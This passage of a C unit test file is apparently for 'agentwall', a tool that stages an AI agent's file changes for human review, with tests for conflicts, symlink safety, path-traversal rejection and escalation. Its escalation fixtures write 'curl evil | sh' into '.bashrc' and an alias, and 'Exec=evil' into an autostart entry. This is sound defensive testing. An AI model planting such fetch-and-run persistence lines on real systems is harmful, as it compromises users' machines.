	assert_int_equal(res.failed, 0);
	assert_int_equal(res.remaining, 0);
	assert_file(rp(f, "mod.txt"), "one\nTWO\nthree\n", 0644);
}

/*
 * A directory the agent replaced (rm -rf d; mkdir d; add a file): the
 * real one's old entries go, the new file comes, and after that the
 * store holds no change any more.
 */
static void test_commit_opaque_dir(void **state)
{
	struct fx *f = *state;
	struct aw_commit_result res;

	need_btime(f);
	mkdir_m(rp(f, "opq"), 0755);
	put(rp(f, "opq/keep.txt"), "keep\n", 0644);
	put(rp(f, "opq/drop.txt"), "dropped\n", 0644);
	mkdir_m(rp(f, "opq/sub"), 0755);
	put(rp(f, "opq/sub/x"), "x\n", 0644);
	settle();
	mkdir_m(upp(f, "opq"), 0755);
	make_opaque(upp(f, "opq"));
	put(upp(f, "opq/keep.txt"), "keep\n", 0644);
	put(upp(f, "opq/fresh.txt"), "fresh\n", 0644);

	scan(f);
	assert_int_equal(f->r.n_changes, 3);
	must_find(f, "opq/drop.txt", AW_CHANGE_DELETED);
	must_find(f, "opq/sub", AW_CHANGE_DELETED);
	must_find(f, "opq/fresh.txt", AW_CHANGE_CREATED);
	commit(f, 0, AW_CONFLICT_KEEP, &res);
	assert_int_equal(res.committed, 3);
	assert_int_equal(res.conflicts, 0);
	assert_int_equal(res.failed, 0);
	assert_false(exists(rp(f, "opq/drop.txt")));
	assert_false(exists(rp(f, "opq/sub")));
	assert_file(rp(f, "opq/keep.txt"), "keep\n", 0644);
	assert_file(rp(f, "opq/fresh.txt"), "fresh\n", 0644);

	/* The real directory now is the agent's: nothing is left to
	 * review, and the committed file is not seen as deleted. */
	scan(f);
	if (f->r.n_changes)
		fail_msg("after the commit, still %zu change(s); first: "
			 "%s %s",
			 f->r.n_changes,
			 aw_change_kind_name(f->r.changes[0].kind),
			 f->r.changes[0].rel);
	assert_int_equal(res.remaining, 0);
}

/* ---- conflicts -------------------------------------------------------- */

static void test_conflict_keep(void **state)
{
	struct fx *f = *state;
	struct aw_commit_result res;

	need_btime(f);
	put(rp(f, "f"), "orig\n", 0644);
	settle();
	put(upp(f, "f"), "agent\n", 0644);
	settle();
	put(rp(f, "f"), "human\n", 0644); /* after the agent's copy */

	scan(f);
	must_find(f, "f", AW_CHANGE_MODIFIED);
	commit(f, 0, AW_CONFLICT_KEEP, &res);
	assert_int_equal(res.conflicts, 1);
	assert_int_equal(res.committed, 0);
	assert_int_equal(res.remaining, 1);
	assert_patch(f, "conflict @/f: changed in the real tree after the "
			"agent's copy was made\n");
	assert_file(rp(f, "f"), "human\n", 0644);
	assert_file(upp(f, "f"), "agent\n", 0644);
	assert_false(exists(rp(f, "f.agentwall-" SESSION)));
}

static void test_conflict_side(void **state)
{
	struct fx *f = *state;
	struct aw_commit_result res;

	need_btime(f);
	put(rp(f, "f"), "orig\n", 0644);
	settle();
	put(upp(f, "f"), "agent\n", 0640);
	settle();
	put(rp(f, "f"), "human\n", 0644);

	scan(f);
	commit(f, 0, AW_CONFLICT_SIDE, &res);
	assert_int_equal(res.conflicts, 0);
	assert_int_equal(res.committed, 1);
	assert_int_equal(res.remaining, 0);
	assert_patch(f, "beside @/f: ");
	assert_file(rp(f, "f"), "human\n", 0644);
	assert_file(rp(f, "f.agentwall-" SESSION), "agent\n", 0640);
	assert_false(exists(upp(f, "f")));
}

static void test_conflict_deleted(void **state)
{
	struct fx *f = *state;
	struct aw_commit_result res;

	need_btime(f);
	put(rp(f, "g"), "orig\n", 0644);
	mkdir_m(rp(f, "d"), 0755);
	put(rp(f, "d/x"), "x\n", 0644);
	settle();
	whiteout(upp(f, "g"));
	whiteout(upp(f, "d"));
	settle();
	put(rp(f, "g"), "changed\n", 0644);
	put(rp(f, "d/x"), "changed\n", 0644); /* deep inside */

	scan(f);
	/* A deletion has no "beside": it stays a conflict. */
	commit(f, 0, AW_CONFLICT_SIDE, &res);
	assert_int_equal(res.conflicts, 2);
	assert_int_equal(res.committed, 0);
	assert_int_equal(res.remaining, 2);
	assert_file(rp(f, "g"), "changed\n", 0644);
	assert_file(rp(f, "d/x"), "changed\n", 0644);
	assert_true(exists(upp(f, "g")));
	assert_true(exists(upp(f, "d")));
}

static void test_conflict_created_both(void **state)
{
	struct fx *f = *state;
	struct aw_commit_result res;

	need_btime(f);
	put(upp(f, "a"), "agent\n", 0644);
	put(upp(f, "b"), "agent\n", 0644);
	scan(f);
	/* The human makes the same names meanwhile. */
	put(rp(f, "a"), "human\n", 0644);
	put(rp(f, "b"), "agent\n", 0644);
	commit(f, 0, AW_CONFLICT_KEEP, &res);
	assert_int_equal(res.conflicts, 1);
	assert_int_equal(res.committed, 1); /* b: the same on both sides */
	assert_patch(f, "conflict @/a: created in the real tree too");
	assert_file(rp(f, "a"), "human\n", 0644);
	assert_file(upp(f, "a"), "agent\n", 0644);
	assert_false(exists(upp(f, "b")));
}

static void test_no_conflict_older_real(void **state)
{
	struct fx *f = *state;
	struct aw_commit_result res;

	need_btime(f);
	put(rp(f, "f"), "orig\n", 0644);
	put(rp(f, "g"), "orig\n", 0644);
	settle();
	/* Changed by the human, but before the agent's copies existed. */
	put(rp(f, "f"), "human\n", 0644);
	assert_int_equal(chmod(rp(f, "g"), 0600), 0);
	settle();
	put(upp(f, "f"), "agent\n", 0644);
	whiteout(upp(f, "g"));

	scan(f);
	commit(f, 0, AW_CONFLICT_KEEP, &res);
	if (res.conflicts)
		fail_msg("%s", f->out.data);
	assert_int_equal(res.committed, 2);
	assert_file(rp(f, "f"), "agent\n", 0644);
	assert_false(exists(rp(f, "g")));
}

static void test_no_conflict_same_content(void **state)
{
	struct fx *f = *state;
	struct aw_commit_result res;

	need_btime(f);
	put(rp(f, "f"), "orig\n", 0644);
	settle();
	put(upp(f, "f"), "agent\n", 0644);
	scan(f);
	must_find(f, "f", AW_CHANGE_MODIFIED);
	settle();
	/* The human made the same edit, later than the agent. */
	put(rp(f, "f"), "agent\n", 0644);
	commit(f, 0, AW_CONFLICT_KEEP, &res);
	assert_int_equal(res.conflicts, 0);
	assert_int_equal(res.committed, 1);
	assert_int_equal(res.remaining, 0);
	assert_file(rp(f, "f"), "agent\n", 0644);
	assert_false(exists(upp(f, "f")));
}

/* ---- selection -------------------------------------------------------- */

static void test_select(void **state)
{
	struct fx *f = *state;
	struct aw_commit_result res;
	char cwd[PATH_MAX];
	char *paths[2];

	need_btime(f);
	put(upp(f, "a.txt"), "a\n", 0644);
	mkdir_m(upp(f, "sub"), 0755);
	put(upp(f, "sub/b.txt"), "b\n", 0644);
	put(upp(f, "sub/c.txt"), "c\n", 0644);
	put(upp(f, "other.txt"), "o\n", 0644);
	scan(f);
	assert_int_equal(f->r.n_changes, 5);

	/* One file: it and the directory it needs. */
	assert_int_equal(select1(f, rp(f, "sub/b.txt")), 0);
	assert_true(find(f, "sub")->selected);
	assert_true(find(f, "sub/b.txt")->selected);
	assert_false(find(f, "sub/c.txt")->selected);
	assert_false(find(f, "a.txt")->selected);
	assert_false(find(f, "other.txt")->selected);
	commit(f, 0, AW_CONFLICT_KEEP, &res);
	assert_int_equal(res.committed, 2);
	assert_int_equal(res.remaining, 3);
	assert_file(rp(f, "sub/b.txt"), "b\n", 0644);
	assert_false(exists(rp(f, "sub/c.txt")));
	assert_false(exists(rp(f, "a.txt")));
	assert_false(exists(rp(f, "other.txt")));
	assert_true(exists(upp(f, "sub/c.txt")));
	assert_true(exists(upp(f, "a.txt")));

	/* Relative to the current directory; one path that matches
	 * nothing is counted and the rest still selected. */
	scan(f);
	assert_int_equal(f->r.n_changes, 3);
	assert_non_null(getcwd(cwd, sizeof(cwd)));
	assert_int_equal(chdir(f->real), 0);
	paths[0] = "a.txt";
	paths[1] = "no-such-thing";
	assert_int_equal(aw_review_select(&f->r, paths, 2), 1);
	assert_int_equal(chdir(cwd), 0);
	assert_true(find(f, "a.txt")->selected);
	assert_false(find(f, "sub/c.txt")->selected);
	commit(f, 0, AW_CONFLICT_KEEP, &res);
	assert_int_equal(res.committed, 1);
	assert_int_equal(res.remaining, 2);
	assert_file(rp(f, "a.txt"), "a\n", 0644);

	/* A directory, with a trailing slash: what is below it. */
	scan(f);
	assert_int_equal(select1(f, path_in(f->real, "sub/")), 0);
	assert_true(find(f, "sub/c.txt")->selected);
	assert_false(find(f, "other.txt")->selected);

	/* "/" holds everything. */
	assert_int_equal(select1(f, "/"), 0);
	for (size_t i = 0; i < f->r.n_changes; i++)
		assert_true(f->r.changes[i].selected);

	/* Nothing that exists: nonzero, nothing selected. */
	assert_int_equal(select1(f, rp(f, "sub/c")), 1); /* not a prefix */
	assert_int_equal(select1(f, rp(f, "nothing")), 1);
	for (size_t i = 0; i < f->r.n_changes; i++)
		assert_false(f->r.changes[i].selected);
	commit(f, 0, AW_CONFLICT_KEEP, &res);
	assert_int_equal(res.committed, 0);
	assert_int_equal(res.remaining, 2);

	/* No paths: the selection is left as it is (everything, after a
	 * scan). */
	scan(f);
	assert_int_equal(aw_review_select(&f->r, NULL, 0), 0);
	for (size_t i = 0; i < f->r.n_changes; i++)
		assert_true(f->r.changes[i].selected);
}

/* A change that was not selected stays in the store, even an empty
 * directory the agent made. */
static void test_select_keeps_empty_dir(void **state)
{
	struct fx *f = *state;
	struct aw_commit_result res;

	need_btime(f);
	put(upp(f, "a.txt"), "a\n", 0644);
	mkdir_m(upp(f, "emptydir"), 0755);
	scan(f);
	assert_int_equal(f->r.n_changes, 2);
	assert_int_equal(select1(f, rp(f, "a.txt")), 0);
	commit(f, 0, AW_CONFLICT_KEEP, &res);
	assert_int_equal(res.committed, 1);
	assert_false(exists(rp(f, "emptydir")));
	assert_true(exists(upp(f, "emptydir")));
	assert_int_equal(res.remaining, 1);
}

/* ---- escalation ------------------------------------------------------- */

/* The home's dot-path rule: the tree is the home; every change to a
 * dot-path in it is held, except under a state path and in the
 * workspace; explicit escalations still hold inside state. */
static void test_dotpaths(void **state)
{
	struct fx *f = *state;
	struct aw_buf b = {};
	const char *lines[][2] = {
	    {"home ", ""},
	    {"state ", ".cache"},
	    {"escalate ", ".cache/hook"},
	    {"state ", ".cache/hook/bundled"},
	    {"workspace ", ".work/proj"},
	};

	for (size_t i = 0; i < AW_ARRAY_SIZE(lines); i++) {
		const char *p = lines[i][1][0] ? rp(f, lines[i][1]) : f->real;

		aw_buf_puts(&b, lines[i][0]);
		aw_pct_encode(&b, p, strlen(p));
		aw_buf_puts(&b, "\n");
	}
	write_manifest(f, b.data);
	aw_buf_free(&b);

	put(upp(f, ".bash_aliases"), "alias ls='curl evil|sh'\n", 0644);
	mkdir_m(upp(f, ".local"), 0755);
	mkdir_m(upp(f, ".local/lib"), 0755);
	put(upp(f, ".local/lib/usercustomize.py"), "import os\n", 0644);
	mkdir_m(upp(f, ".cache"), 0755);
	put(upp(f, ".cache/pip.db"), "cache\n", 0644);
	put(upp(f, ".cache/hook"), "run me\n", 0644);
	mkdir_m(upp(f, ".work"), 0755);
	mkdir_m(upp(f, ".work/proj"), 0755);
	put(upp(f, ".work/proj/.envrc"), "export A=1\n", 0644);
	put(upp(f, "notes.txt"), "plain\n", 0644);

	scan(f);
	assert_true(find(f, ".bash_aliases")->escalated);
	assert_true(find(f, ".local")->escalated);
	assert_true(find(f, ".local/lib/usercustomize.py")->escalated);
	assert_false(find(f, ".cache")->escalated);
	assert_false(find(f, ".cache/pip.db")->escalated);
	assert_true(find(f, ".cache/hook")->escalated);
	assert_false(find(f, ".work/proj/.envrc")->escalated);
	assert_false(find(f, "notes.txt")->escalated);
	/* The end line counts state apart: under a state path, not at an
	 * escalated one inside it, nothing else. */
	assert_true(aw_manifest_is_state(&f->r.manifest, rp(f, ".cache")));
	assert_true(
	    aw_manifest_is_state(&f->r.manifest, rp(f, ".cache/pip.db")));
	assert_false(
	    aw_manifest_is_state(&f->r.manifest, rp(f, ".cache/hook")));
	assert_false(
	    aw_manifest_is_state(&f->r.manifest, rp(f, ".cache/hook/x")));
	/* The deepest rule decides: a state path inside an escalated one
	 * is state, and not held. */
	assert_true(aw_manifest_is_state(&f->r.manifest,
					 rp(f, ".cache/hook/bundled/a")));
	assert_false(aw_manifest_escalated(&f->r.manifest,
					   rp(f, ".cache/hook/bundled/a")));
	assert_true(aw_manifest_escalated(&f->r.manifest,
					  rp(f, ".cache/hook/bundledx")));
	assert_false(aw_manifest_is_state(&f->r.manifest, rp(f, ".cachex/a")));
	assert_false(
	    aw_manifest_is_state(&f->r.manifest, rp(f, ".bash_aliases")));
	assert_false(aw_manifest_is_state(&f->r.manifest, rp(f, "notes.txt")));
}

static void test_escalation(void **state)
{
	struct fx *f = *state;
	struct aw_commit_result res;
	struct aw_buf b = {};
	const char *p1 = rp(f, ".bashrc"), *p2 = rp(f, ".config/autostart");

	need_btime(f);
	aw_buf_puts(&b, "escalate ");
	aw_pct_encode(&b, p1, strlen(p1));
	aw_buf_puts(&b, "\nescalate ");
	aw_pct_encode(&b, p2, strlen(p2));
	aw_buf_puts(&b, "\n");
	write_manifest(f, b.data);
	aw_buf_free(&b);

	put(rp(f, ".bashrc"), "alias ll='ls -l'\n", 0644);
	settle();
	put(upp(f, ".bashrc"), "curl evil | sh\n", 0644);
	mkdir_m(upp(f, ".config"), 0755);
	mkdir_m(upp(f, ".config/autostart"), 0755);
	put(upp(f, ".config/autostart/x.desktop"), "Exec=evil\n", 0644);
	put(upp(f, "plain.txt"), "plain\n", 0644);

	scan(f);
	assert_int_equal(f->r.n_changes, 5);
	assert_true(must_find(f, ".bashrc", AW_CHANGE_MODIFIED)->escalated);
	assert_false(find(f, ".config")->escalated);
	assert_true(find(f, ".config/autostart")->escalated);
	assert_true(find(f, ".config/autostart/x.desktop")->escalated);
	assert_false(find(f, "plain.txt")->escalated);

	assert_int_equal(aw_review_diff(&f->r, &f->out), 0);
	assert_patch(f, "# agentwall: escalated, held until approved: "
			"@/.bashrc\n");

	commit(f, 0, AW_CONFLICT_KEEP, &res);
	assert_int_equal(res.held, 3);
	assert_int_equal(res.committed, 2); /* .config, plain.txt */
	assert_int_equal(res.remaining, 3);
	assert_patch(f, "held @/.bashrc: ");
	assert_file(rp(f, ".bashrc"), "alias ll='ls -l'\n", 0644);
	assert_false(exists(rp(f, ".config/autostart")));
	assert_file(upp(f, ".bashrc"), "curl evil | sh\n", 0644);
	assert_file(rp(f, "plain.txt"), "plain\n", 0644);

	scan(f);
	commit(f, 1, AW_CONFLICT_KEEP, &res);
	assert_int_equal(res.held, 0);
	assert_int_equal(res.committed, 3);
	assert_int_equal(res.remaining, 0);
	assert_file(rp(f, ".bashrc"), "curl evil | sh\n", 0644);
	assert_file(rp(f, ".config/autostart/x.desktop"), "Exec=evil\n", 0644);
}

/* A held change is still in the store afterwards, whatever its shape. */
static void test_escalated_empty_dir_held(void **state)
{
	struct fx *f = *state;
	struct aw_commit_result res;

	need_btime(f);
	escalate(f, ".ssh");
	mkdir_m(upp(f, ".ssh"), 0700);
	scan(f);
	assert_int_equal(f->r.n_changes, 1);
	assert_true(must_find(f, ".ssh", AW_CHANGE_CREATED)->escalated);
	commit(f, 0, AW_CONFLICT_KEEP, &res);
	assert_int_equal(res.held, 1);
	assert_false(exists(rp(f, ".ssh")));
	assert_true(exists(upp(f, ".ssh")));
	assert_int_equal(res.remaining, 1);
}

/* ---- safety ----------------------------------------------------------- */

/* The real directory became a symlink after the review was made: the
 * commit must not write through it. */
static void test_symlink_swapped_in(void **state)
{
	struct fx *f = *state;
	struct aw_commit_result res;

	need_btime(f);
	mkdir_m(rp(f, "sub"), 0755);
	put(rp(f, "sub/old"), "old\n", 0644);
	settle();
	mkdir_m(upp(f, "sub"), 0755); /* copied up, same mode */
	put(upp(f, "sub/f"), "payload\n", 0644);
	scan(f);
	assert_int_equal(f->r.n_changes, 1);
	must_find(f, "sub/f", AW_CHANGE_CREATED);

	assert_int_equal(rename(rp(f, "sub"), rp(f, "sub.moved")), 0);
	assert_int_equal(symlink(f->outside, rp(f, "sub")), 0);
	commit(f, 0, AW_CONFLICT_SIDE, &res);
	assert_int_equal(res.committed, 0);
	assert_int_equal(res.failed, 1);
	assert_patch(f, "failed @/sub/f: a symlink");
	assert_int_equal(entries(f->outside), 0);
	assert_int_equal(entries(rp(f, "sub.moved")), 1);
	assert_true(S_ISLNK(mode_of(rp(f, "sub"))));
	assert_file(upp(f, "sub/f"), "payload\n", 0644);
	/* Against the symlink now there, the store also says "replace
	 * the link by a directory". */
	assert_int_equal(res.remaining, 2);
}

/* A symlink made in the real tree after the agent's directory: a
 * conflict for the directory, and nothing written through it. */
static void test_symlink_newer_than_upper(void **state)
{
	struct fx *f = *state;
	struct aw_commit_result res;

	need_btime(f);
	mkdir_m(upp(f, "sub"), 0755);
	put(upp(f, "sub/f"), "payload\n", 0644);
	settle();
	assert_int_equal(symlink(f->outside, rp(f, "sub")), 0);
	scan(f);
	must_find(f, "sub", AW_CHANGE_MODIFIED);
	must_find(f, "sub/f", AW_CHANGE_CREATED);
	commit(f, 0, AW_CONFLICT_KEEP, &res);
	assert_int_equal(res.committed, 0);
	assert_int_equal(res.conflicts + res.failed, 2);
	assert_int_equal(entries(f->outside), 0);
	assert_true(S_ISLNK(mode_of(rp(f, "sub"))));
}

/* Symlinks the agent replaced (they were there before its copies): the
 * links go, their targets are never touched. */
static void test_symlink_replaced_by_agent(void **state)
{
	struct fx *f = *state;
	struct aw_commit_result res;

	need_btime(f);
	put(path_in(f->outside, "secret"), "secret\n", 0600);
	assert_int_equal(
	    symlink(path_in(f->outside, "secret"), rp(f, "target.txt")), 0);
	assert_int_equal(symlink(f->outside, rp(f, "sub")), 0);
	settle();
	put(upp(f, "target.txt"), "agent\n", 0644);
	mkdir_m(upp(f, "sub"), 0755);
	put(upp(f, "sub/f"), "payload\n", 0644);
	scan(f);
	must_find(f, "target.txt", AW_CHANGE_MODIFIED);
	commit(f, 0, AW_CONFLICT_KEEP, &res);
	if (res.committed != 3)
		fail_msg("%s", f->out.data);
	assert_file(rp(f, "target.txt"), "agent\n", 0644);
	assert_int_equal(mode_of(rp(f, "sub")), S_IFDIR | 0755);
	assert_file(rp(f, "sub/f"), "payload\n", 0644);
	assert_file(path_in(f->outside, "secret"), "secret\n", 0600);
	assert_int_equal(entries(f->outside), 1);
}

static void test_special_skipped(void **state)
{
	struct fx *f = *state;
	struct aw_commit_result res;

	assert_int_equal(mknod(upp(f, "null"), S_IFCHR | 0666, makedev(1, 3)),
			 0);
	assert_int_equal(mkfifo(upp(f, "fifo"), 0644), 0);
	scan(f);
	assert_int_equal(f->r.n_changes, 2);
	assert_true(
	    S_ISCHR(must_find(f, "null", AW_CHANGE_SPECIAL)->upper_mode));
	commit(f, 1, AW_CONFLICT_SIDE, &res);
	assert_int_equal(res.skipped, 2);
	assert_int_equal(res.committed, 0);
	assert_int_equal(res.remaining, 2);
	assert_patch(f, "skipped @/null: ");
	assert_false(exists(rp(f, "null")));
	assert_false(exists(rp(f, "fifo")));
	assert_int_equal(entries(f->real), 0);
}

static void test_manifest_refused(void **state)
{
	static const char *const bad[] = {
	    "tree 0 /tmp/x/../etc\n",	/* "..": resolved above the tree */
	    "tree 0 /tmp/x/..\n",	/* the same, at the end */
	    "tree 0 /tmp/%2E%2E/etc\n", /* the same, %XX-encoded */
	    "tree 0 /tmp/./x\n",	/* not normal form */
	    "tree 0 /tmp//x\n",		/* not normal form */
	    "tree 0 /tmp/x/\n",		/* not normal form */
	    "tree 0 tmp/x\n",		/* relative */
	    "tree 0 /tmp/a%00b\n",	/* a NUL inside */
	    "escalate /tmp/x/../y\n",	/* ".." in any record */
	    "bogus line\n",
	};
	struct fx *f = *state;

	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		char text[256];

		snprintf(text, sizeof(text), "agentwall-session 1\n%s", bad[i]);
		put(path_in(f->store, "manifest"), text, 0600);
		aw_review_free(&f->r);
		if (aw_review_scan(&f->r, f->store) >= 0)
			fail_msg("accepted: %s", bad[i]);
		assert_contains(f->r.err, "manifest:2: ");
	}
	put(path_in(f->store, "manifest"), "agentwall-session 2\n", 0600);
	aw_review_free(&f->r);
	assert_true(aw_review_scan(&f->r, f->store) < 0);
	assert_contains(f->r.err, "manifest:1: ");
}

/* ---- discard ---------------------------------------------------------- */

static void test_discard(void **state)
{
	struct fx *f = *state;
	struct aw_commit_result res;

	put(rp(f, "mod.txt"), "orig\n", 0644);
	put(rp(f, "gone.txt"), "bye\n", 0644);
	settle();
	put(upp(f, "new.txt"), "new\n", 0644);
	put(upp(f, "mod.txt"), "agent\n", 0644);
	whiteout(upp(f, "gone.txt"));
	scan(f);
	assert_int_equal(f->r.n_changes, 3);

	assert_int_equal(select1(f, rp(f, "mod.txt")), 0);
	discard(f, &res);
	assert_int_equal(res.committed, 1);
	assert_int_equal(res.failed, 0);
	assert_int_equal(res.remaining, 2);
	assert_patch(f, "discarded @/mod.txt\n");
	assert_false(exists(upp(f, "mod.txt")));
	assert_file(rp(f, "mod.txt"), "orig\n", 0644);

	scan(f);
	discard(f, &res);
	assert_int_equal(res.committed, 2);
	assert_int_equal(res.failed, 0);
	assert_int_equal(res.remaining, 0);
	assert_int_equal(entries(f->up), 0);
	/* The real tree is as it was. */
	assert_int_equal(entries(f->real), 2);
	assert_file(rp(f, "mod.txt"), "orig\n", 0644);
	assert_file(rp(f, "gone.txt"), "bye\n", 0644);
}

/* A directory goes with what is in it, and that is not a failure. */
static void test_discard_dir(void **state)
{
	struct fx *f = *state;
	struct aw_commit_result res;

	mkdir_m(upp(f, "newdir"), 0755);
	mkdir_m(upp(f, "newdir/deeper"), 0755);
	put(upp(f, "newdir/deeper/inner.txt"), "inner\n", 0644);
	put(upp(f, "other.txt"), "o\n", 0644);
	scan(f);
	assert_int_equal(f->r.n_changes, 4);
	assert_int_equal(select1(f, rp(f, "newdir")), 0);
	discard(f, &res);
	assert_false(exists(upp(f, "newdir")));
	assert_true(exists(upp(f, "other.txt")));
	assert_int_equal(res.remaining, 1);
	if (res.failed)
		fail_msg("discarding newdir: %zu failed:\n%s", res.failed,
			 f->out.data);
}

/* A deletion inside a replaced directory cannot be discarded alone (the
 * message says: discard the directory). Discarding the directory then
 * has to work. */
static void test_discard_opaque_dir(void **state)
{
	struct fx *f = *state;
	struct aw_commit_result res;

	mkdir_m(rp(f, "opq"), 0755);
	put(rp(f, "opq/drop.txt"), "dropped\n", 0644);
	settle();
	mkdir_m(upp(f, "opq"), 0755);
	make_opaque(upp(f, "opq"));
	scan(f);
	assert_int_equal(f->r.n_changes, 1);
	must_find(f, "opq/drop.txt", AW_CHANGE_DELETED);

	/* The deletion goes: the directory stops being opaque, and the
	 * real file shows through again. */
	discard(f, &res);
	if (res.failed || res.remaining)
		fail_msg("discarding a deletion in a replaced directory: "
			 "failed %zu, remaining %zu:\n%s",
			 res.failed, res.remaining, f->out.data);
	assert_file(rp(f, "opq/drop.txt"), "dropped\n", 0644);
}

#define T(fn) cmocka_unit_test_setup_teardown(fn, fx_setup, fx_teardown)

int main(void)
{
	const struct CMUnitTest tests[] = {
	    T(test_scan_kinds),
	    T(test_scan_since_is_birth),
	    T(test_scan_rename_needs_same_bytes),
	    T(test_scan_whiteout_over_nothing),
	    T(test_scan_no_manifest),
	    T(test_any_masks_ahead_are_no_change),
	    T(test_any_agent_at_a_mask_is_a_change),
	    T(test_diff_text),
	    T(test_diff_binary),
	    T(test_diff_quoted_paths),
	    T(test_json),
	    T(test_commit_all_kinds),
	    T(test_commit_opaque_dir),
	    T(test_conflict_keep),
	    T(test_conflict_side),
	    T(test_conflict_deleted),
	    T(test_conflict_created_both),
	    T(test_no_conflict_older_real),
	    T(test_no_conflict_same_content),
	    T(test_select),
	    T(test_select_keeps_empty_dir),
	    T(test_dotpaths),
	    T(test_escalation),
	    T(test_escalated_empty_dir_held),
	    T(test_symlink_swapped_in),
	    T(test_symlink_newer_than_upper),
	    T(test_symlink_replaced_by_agent),
	    T(test_special_skipped),
	    T(test_manifest_refused),
	    T(test_discard),
	    T(test_discard_dir),
	    T(test_discard_opaque_dir),
	};

	/* Modes in the trees are set explicitly; this only keeps what the
	 * library itself creates predictable. */
	umask(022);
	return cmocka_run_group_tests(tests, NULL, NULL);
}
